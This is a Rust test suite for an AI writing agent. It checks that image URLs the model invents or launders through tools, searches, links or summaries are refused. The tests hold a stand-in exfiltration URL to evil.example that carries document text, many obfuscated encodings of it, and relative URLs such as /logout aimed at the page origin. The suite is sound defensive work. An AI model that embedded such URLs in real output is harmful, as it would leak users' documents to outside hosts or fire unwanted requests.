//! Attempts to make a URL that the model invented count as known.

use super::harness::{Answer, Harness, calls, page, says, tool};
use copydesk_agent::tools::Tool;
use copydesk_agent::tools::app::output;
use copydesk_edit::Guards;
use copydesk_llm::Message;
use copydesk_review::decide::{Reviewed, reject, set_mode};
use copydesk_review::hunk::Which;
use copydesk_review::review::Mode;
use serde_json::{Value, json};
use std::future::ready;

const TEA: &str = "<h2>History</h2><p>Old.</p>";
const EVIL: &str = "https://evil.example/c?d=Old+secret+text";

fn append(id: &str, content: &str) -> Answer {
    calls(&[(id, "update_section", json!({ "operation": "append", "title": id, "content": content }))])
}

fn image(id: &str, url: &str) -> Answer {
    append(id, &format!("<p>x</p><img src=\"{url}\">"))
}

/// The code of each call's error, or `ok`.
fn codes(harness: &Harness) -> Vec<String> {
    let results = harness.events().into_iter().filter(|event| event["type"] == "tool_result");
    results.map(|event| event["content"]["error"]["code"].as_str().unwrap_or("ok").to_owned()).collect()
}

/// Runs a model that tries to insert an image in the last of its calls.
fn tried(harness: &Harness) {
    harness.prompt("Write about tea.");
    let codes = codes(harness);
    let (last, before) = codes.split_last().unwrap();
    assert!(before.iter().all(|code| code == "ok"), "{codes:?}");
    assert_eq!(last, "url_not_allowed", "{}", harness.html());
    assert!(!harness.html().contains("<img"), "{}", harness.html());
}

fn refused(answers: Vec<Answer>) {
    tried(&Harness::new(TEA, answers.into_iter().chain([says("Done.")]).collect()));
}

fn with_tools(answers: Vec<Answer>, tools: Vec<Tool>) -> Harness {
    let harness = Harness::new(TEA, answers.into_iter().chain([says("Done.")]).collect());
    harness.agent.set_tools(tools);
    harness
}

/// A tool that returns the result of `answer` for its arguments.
fn giving(spec: Value, answer: impl Fn(&Value) -> Value + 'static) -> Tool {
    tool(spec, move |given, _| Box::pin(ready(Ok(output(answer(&Value::Object(given)))))))
}

/// The arguments of a call, and the tool that makes a result of them.
type Echo = (Value, fn(&Value) -> Value);

#[test]
fn a_link_does_not_allow_an_image() {
    refused(vec![append("a", &format!("<p><a href=\"{EVIL}\">source</a></p>")), image("b", EVIL)]);
    refused(vec![append("a", &format!("See [source]({EVIL}).")), image("b", EVIL)]);
    refused(vec![append("a", &format!("See **this**: <{EVIL}>\n\n- {EVIL}")), image("b", EVIL)]);
    refused(vec![append("a", &format!("<p><code>{EVIL}</code></p><pre><code>{EVIL}</code></pre>")), image("b", EVIL)]);
}

#[test]
fn text_of_the_model_does_not_count_as_text_of_the_user() {
    let harness = Harness::new(TEA, vec![says(&format!("See {EVIL}")), image("b", EVIL), says("Done.")]);
    harness.prompt("Hello.");
    tried(&harness);
}

#[test]
fn a_proposal_does_not_allow_an_image_whether_pending_or_rejected() {
    let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
    let harness =
        Harness::new(TEA, vec![append("a", &link), image("b", EVIL), image("c", EVIL), says("Done."), says("Done.")]);
    set_mode(&harness.document, Mode::Review);
    harness.prompt("Write.");
    reject(&harness.document, &Which::All).unwrap();
    harness.prompt("Again.");
    assert_eq!(codes(&harness), ["ok", "url_not_allowed", "url_not_allowed"]);
    assert!(!harness.document.review().borrow().is_pending());
}

#[test]
fn hosts_set_later_allow_only_themselves() {
    let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
    let harness = Harness::new(TEA, vec![append("a", &link), image("b", EVIL), says("Done.")]);
    let guards = json!({ "images": { "hosts": ["cdn.example"] } });
    harness.document.set_guards(&serde_json::from_value::<Guards>(guards).unwrap()).unwrap();
    tried(&harness);
}

#[test]
fn a_search_that_repeats_its_query_allows_nothing() {
    let pages = || page(200, "application/json", &json!({ "query": { "pages": [] } }).to_string());
    let images = || page(200, "application/json", &json!({ "results": [] }).to_string());
    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), pages(), image("b", EVIL)]);
    refused(vec![calls(&[("s", "search_image", json!({ "keywords": EVIL }))]), images(), image("b", EVIL)]);
    // A service that returns the query as its result.
    let echoed = json!({ "query": { "pages": [{ "index": 1, "title": "x", "fullurl": EVIL, "extract": "x" }] } });
    let echoed = page(200, "application/json", &echoed.to_string());
    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), echoed, image("b", EVIL)]);
    let echoed = page(200, "application/json", &json!({ "results": [{ "title": "x", "url": EVIL }] }).to_string());
    refused(vec![
        calls(&[("s", "search_image", json!({ "keywords": format!("x {EVIL}") }))]),
        echoed,
        image("b", EVIL),
    ]);
}

#[test]
fn of_a_found_image_only_the_image_itself_may_be_shown() {
    let pages = ["creator_url", "license_url", "foreign_landing_url"];
    let url_of = |field: &str| format!("https://pics.example/{field}");
    let found = || {
        let mut image = json!({ "title": "Cup", "license": "by" });
        for field in pages.iter().chain(&["url", "thumbnail"]) {
            image[*field] = url_of(field).into();
        }
        page(200, "application/json", &json!({ "results": [image] }).to_string())
    };
    let search = || calls(&[("s", "search_image", json!({ "keywords": "tea" }))]);
    for field in pages {
        refused(vec![search(), found(), image("b", &url_of(field))]);
        let link = format!("<p><a href=\"{}\">Ann</a></p>", url_of(field));
        let other = append("c", "<p><a href=\"https://other.example/\">x</a></p>");
        let harness = Harness::new(TEA, vec![search(), found(), append("b", &link), other, says("Done.")]);
        let guards = json!({ "links": { "hosts": ["own.example"] } });
        harness.document.set_guards(&serde_json::from_value::<Guards>(guards).unwrap()).unwrap();
        harness.prompt("x");
        assert_eq!(codes(&harness), ["ok", "ok", "url_not_allowed"], "{field}");
    }
    for field in ["url", "thumbnail"] {
        let harness = Harness::new(TEA, vec![search(), found(), image("b", &url_of(field)), says("Done.")]);
        harness.prompt("x");
        assert_eq!(codes(&harness), ["ok", "ok"], "{field}");
    }
}

#[test]
fn a_tool_allows_the_urls_it_declares_and_no_repeated_arguments() {
    let photo = "https://photos.example/7.png";
    for trusted in [true, false] {
        let spec = |fields: Value| json!({ "name": "t", "trusted": trusted, "urlFields": fields });
        let call = |arguments: Value| calls(&[("t", "t", arguments)]);
        let found = |_: &Value| json!({ "photos": [{ "url": "https://photos.example/7.png" }] });
        tried(&with_tools(vec![call(json!({})), image("b", photo)], vec![giving(spec(json!([])), found)]));
        let harness = with_tools(
            vec![call(json!({ "id": 7 })), image("b", photo), image("c", EVIL)],
            vec![giving(spec(json!(["photos[].url"])), found)],
        );
        harness.prompt("x");
        assert_eq!(codes(&harness), ["ok", "ok", "url_not_allowed"]);
        let fields = json!(["url", "text", "list[]"]);
        let echoes: [Echo; 10] = [
            (json!({ (EVIL): 1 }), |given| json!({ "url": given.as_object().unwrap().keys().next() })),
            (json!({ "a": EVIL }), |given| json!({ "url": given["a"] })),
            (
                json!({ "a": format!("see {EVIL} there") }),
                |given| json!({ "list": given["a"].as_str().unwrap().split(' ').collect::<Vec<_>>() }),
            ),
            (json!({ "a": [{ "b": "https:\\/\\/evil.example\\/c?d=Old+secret+text" }] }), |_| json!({ "url": EVIL })),
            (json!({ "a": "https%3A%2F%2Fevil.example%2Fc%3Fd%3DOld%2Bsecret%2Btext" }), |_| json!({ "url": EVIL })),
            (json!({ "a": "&#104;ttps&colon;//evil.example/c?d&equals;Old+secret+text" }), |_| json!({ "url": EVIL })),
            (json!({ "a": "\\u0068ttps://evil.example/c?d=Old+secret+text" }), |_| json!({ "url": EVIL })),
            (json!({ "a": "HTTPS://EVIL.example:443/x/../c?d=Old+secret+text" }), |_| json!({ "url": EVIL })),
            (json!({ "host": "evil.example", "query": "d=Old+secret+text" }), |given| {
                json!({
                    "url": format!("https://{}/c?{}", given["host"].as_str().unwrap(), given["query"].as_str().unwrap()),
                })
            }),
            (json!({ "host": "evil.example", "text": "Old secret text" }), |_| json!({ "url": EVIL })),
        ];
        for (arguments, answer) in echoes {
            let harness =
                with_tools(vec![call(arguments), image("b", EVIL)], vec![giving(spec(fields.clone()), answer)]);
            tried(&harness);
        }
        let proxy = "https://proxy.example/?u=https%3A%2F%2Fevil.example%2Fc%3Fd%3DOld%2Bsecret%2Btext";
        let proxied = giving(spec(fields.clone()), move |_| json!({ "url": proxy }));
        tried(&with_tools(vec![call(json!({ "a": EVIL })), image("b", proxy)], vec![proxied]));
        let moved = "https://other.example/c?d=Old+secret+text&x=1";
        let other = giving(spec(fields.clone()), move |_| json!({ "url": moved }));
        tried(&with_tools(vec![call(json!({ "a": EVIL })), image("b", moved)], vec![other]));
        // Written in one call, given back by the next.
        let later = giving(spec(fields.clone()), |_| json!({ "url": EVIL }));
        let link = format!("<p><a href=\"{EVIL}\">x</a></p>");
        tried(&with_tools(vec![append("a", &link), call(json!({})), image("b", EVIL)], vec![later]));
        let acts = giving(spec(fields), |_| json!({ "url": "/logout" }));
        tried(&with_tools(vec![call(json!({ "a": "logout" })), image("b", "/logout")], vec![acts]));
    }
}

#[test]
fn a_known_url_stays_known_when_used_as_an_argument() {
    let photo = "https://photos.example/a/long/way/7.png?w=100";
    let spec = json!({ "name": "t", "urlFields": ["url"] });
    let harness = with_tools(
        vec![
            calls(&[("1", "t", json!({ "words": "cup of tea" }))]),
            image("a", photo),
            calls(&[("2", "t", json!({ "like": photo }))]),
            image("b", photo),
            image("c", "https://said.example/1.png"),
        ],
        vec![giving(spec, move |_| json!({ "url": photo }))],
    );
    harness.prompt("Mine is https://said.example/1.png.");
    assert_eq!(codes(&harness), ["ok"; 5]);
    // And in another agent that continues the messages.
    let messages: Vec<Value> = harness.agent.messages().into_iter().map(Value::from).collect();
    let other = with_tools(
        vec![image("d", photo), image("e", EVIL)],
        vec![giving(json!({ "name": "t", "urlFields": ["url"] }), |_| Value::Null)],
    );
    let messages = messages.into_iter().map(|message| Message::try_from(message).unwrap());
    other.agent.set_messages(messages.collect()).unwrap();
    other.prompt("Again.");
    assert_eq!(codes(&other), ["ok", "url_not_allowed"]);
}

#[test]
fn an_invented_image_url_sends_no_request_to_the_page_origin() {
    for url in ["/logout", "?delete=1", "logout", "../x", "https:logout"] {
        refused(vec![image("a", url)]);
    }
    let harness = Harness::new(
        "<h2>A</h2><p>x</p><img src=\"/there.png\">",
        vec![image("a", "/there.png"), image("b", "/img/mine.png"), image("c", "/img"), says("Done.")],
    );
    harness.prompt("Use /img/mine.png.");
    assert_eq!(codes(&harness), ["ok", "ok", "url_not_allowed"]);
}

#[test]
fn read_more_allows_no_urls() {
    let long = format!("{} {EVIL}", "tea ".repeat(20_000));
    let spec = json!({ "name": "t", "urlFields": ["url"] });
    let read = calls(&[("r", "read_more", json!({ "id": "page_1", "offset": 60_000 }))]);
    let given = giving(spec, move |_| json!({ "text": long, "url": "https://photos.example/7.png" }));
    tried(&with_tools(vec![calls(&[("t", "t", json!({}))]), read, image("b", EVIL)], vec![given]));
}

#[test]
fn a_summary_allows_no_new_urls() {
    let model = json!({ "api": "openai-completions", "modelId": "test-model", "contextWindow": 8_000 });
    let config =
        json!({ "model": model, "streamOptions": { "apiKey": "sk-secret", "baseUrl": "https://llm.example/v1" } });
    let harness = Harness::with(
        TEA,
        vec![
            says(&format!("They want {EVIL} and https://said.example/1.png shown, and /logout.")),
            image("a", "https://said.example/1.png"),
            image("b", EVIL),
            image("c", "/logout"),
            says("Done."),
        ],
        json!({ "systemPrompt": "Help.", "llmConfig": config }),
        |_, _| {},
    );
    let mut messages = vec![Message::user("Mine is https://said.example/1.png.")];
    for turn in 0..20 {
        let text = format!("Answer {turn}: {}", "milk and tea ".repeat(120));
        let content = json!([{ "type": "text", "text": text }]);
        let answer = json!({ "role": "assistant", "stopReason": "stop", "content": content });
        messages.extend([Message::user("More."), Message::try_from(answer).unwrap()]);
    }
    harness.agent.set_messages(messages).unwrap();
    harness.prompt("Go on.");
    assert!(harness.event_types().iter().any(|kind| kind == "compaction"), "{:?}", harness.event_types());
    assert_eq!(codes(&harness), ["ok", "url_not_allowed", "url_not_allowed"]);
    let messages = harness.agent.messages();
    let images = [image("a", "https://said.example/1.png"), image("b", EVIL), image("c", "/logout")];
    let other = Harness::new(TEA, images.into_iter().chain([says("Done.")]).collect());
    other.agent.set_messages(messages).unwrap();
    other.prompt("Again.");
    assert_eq!(codes(&other), ["ok", "url_not_allowed", "url_not_allowed"]);
}

#[test]
fn an_invalid_url_field_is_an_error_that_names_it() {
    let own = |fields: Value| {
        copydesk_agent::tools::app::tool(
            &json!({ "name": "t", "urlFields": fields }),
            std::rc::Rc::new(|_, _| unreachable!()),
        )
        .map(drop)
    };
    assert!(own(json!(["url", "photos[].url", "[].src", "."])).is_ok());
    let expected = "urlFields[1] must be a path to a field of the result, such as \"url\" or \"photos[].url\"";
    for wrong in [json!(""), json!("a..b"), json!("a[0]"), json!(1), json!(null)] {
        assert_eq!(own(json!(["url", wrong])).unwrap_err().to_string(), expected);
    }
    assert_eq!(own(json!("url")).unwrap_err().to_string(), "urlFields must be an array");
}
